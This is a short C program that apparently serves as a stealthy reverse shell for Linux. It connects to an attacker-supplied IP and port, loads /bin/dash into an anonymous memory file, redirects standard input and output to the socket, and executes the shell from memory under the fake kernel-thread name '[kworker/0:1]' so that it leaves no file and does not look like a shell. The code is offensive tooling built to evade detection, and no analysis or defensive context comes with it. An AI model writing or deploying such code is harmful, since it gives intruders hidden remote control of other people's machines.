/* connect, copy a shell into memory, become it under another name: no file, no name that says "shell" */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	char *const name[] = {"[kworker/0:1]", "-i", NULL}, *const none[] = {NULL};
	int fd = socket(AF_INET, SOCK_STREAM, 0), memory = memfd_create("x", MFD_CLOEXEC);
	int shell = open("/bin/dash", O_RDONLY);
	char buffer[65536];
	ssize_t count;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	to.sin_port = htons((unsigned short)atoi(argv[2]));
	while ((count = read(shell, buffer, sizeof buffer)) > 0)
		if (write(memory, buffer, (size_t)count) != count)
			return 1;
	if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0)
		return 1;
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	fexecve(memory, name, none);
	return 1;
}
